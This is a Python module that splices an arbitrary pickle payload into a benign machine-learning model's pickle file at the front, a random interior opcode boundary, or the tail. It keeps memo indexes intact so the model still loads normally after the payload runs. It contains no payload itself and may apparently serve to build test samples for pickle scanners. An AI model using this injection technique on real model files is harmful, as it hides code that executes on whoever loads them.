"""Splicing a payload into a benign model's pickle so that the model still
loads after the payload ran.

The payload is an expression whose value is dropped with POP, so the stack
is as before. Where it goes:
  front:  right after the PROTO opcode (before any FRAME); the payload must
          not touch the memo, or the model's MEMOIZE indexes would shift;
  inside: at a random opcode boundary of the model's pickle (frames
          removed first, since the payload would not fit in them); memo-free
          as well;
  tail:   just before the final STOP, once the model is built; the payload
          may memoize, at indexes above every one the model used.
"""

import pickletools

from .opcodes import P


def host_protocol(stream):
    if stream[:1] == P.PROTO:
        return stream[1]
    for opcode, _, _ in pickletools.genops(stream):
        if opcode.proto >= 1:
            return 1
        if opcode.name == "STOP":
            break
    return 0


def opcode_walk(stream):
    """(name, arg, position) of each opcode of the first pickle in stream,
    as far as they parse: joblib interleaves raw array bytes with opcodes,
    where the walk stops."""
    ops = []
    try:
        for opcode, arg, pos in pickletools.genops(stream):
            ops.append((opcode.name, arg, pos))
            if opcode.name == "STOP":
                break
    except Exception:
        pass
    return ops


def pickle_end(stream):
    """Length of the first complete pickle in stream (through STOP)."""
    ops = opcode_walk(stream)
    if not ops or ops[-1][0] != "STOP":
        raise ValueError("no complete pickle")
    return ops[-1][2] + 1


def strip_frames(stream):
    """The pickle without FRAME opcodes (frames are optional hints)."""
    ops = opcode_walk(stream)
    if not ops or ops[-1][0] != "STOP":
        raise ValueError("cannot walk the whole pickle")
    out = bytearray()
    last = 0
    for name, _, pos in ops:
        if name == "FRAME":
            out += stream[last:pos]
            last = pos + 9
    out += stream[last:ops[-1][2] + 1]
    return bytes(out) + stream[ops[-1][2] + 1:]


def memo_high_water(stream):
    """One past the highest memo index the pickle uses."""
    high = 0
    count = 0
    for name, arg, _ in opcode_walk(stream):
        if name in ("PUT", "BINPUT", "LONG_BINPUT"):
            high = max(high, int(arg) + 1)
        elif name == "MEMOIZE":
            count += 1
    return max(high, count)


def whole_pickle_walks(stream):
    ops = opcode_walk(stream)
    return bool(ops) and ops[-1][0] == "STOP"


def places(stream):
    """Where a payload can go in this pickle."""
    if whole_pickle_walks(stream):
        return ("front", "inside", "tail")
    return ("front",)


def splice(stream, payload_ops, where, rng):
    """Insert `payload_ops` (opcodes leaving one value) followed by POP."""
    chunk = payload_ops + P.POP
    if where == "front":
        at = 2 if stream[:1] == P.PROTO else 0
        return stream[:at] + chunk + stream[at:]
    if where == "tail":
        end = pickle_end(stream)
        return stream[:end - 1] + chunk + stream[end - 1:]
    if where == "inside":
        flat = strip_frames(stream)
        ops = opcode_walk(flat)
        # Boundaries after the PROTO opcode and before STOP.
        first = 1 if ops[0][0] == "PROTO" else 0
        candidates = [pos for _, _, pos in ops[first + 1:]]
        at = rng.choice(candidates)
        return flat[:at] + chunk + flat[at:]
    raise ValueError(where)
